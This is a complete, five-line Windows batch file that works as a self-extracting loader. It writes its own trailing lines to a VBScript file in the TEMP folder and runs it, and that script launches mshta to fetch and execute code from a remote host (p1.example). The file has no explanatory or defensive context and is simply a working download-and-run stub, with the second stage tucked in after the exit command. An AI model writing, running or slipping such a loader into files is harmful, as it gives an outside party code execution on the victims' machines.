@echo off
more +4 "%~f0" > "%TEMP%\m.vbs"
cscript "%TEMP%\m.vbs"
exit /b
CreateObject("WScript.Shell").Run "mshta http://p1.example/m"
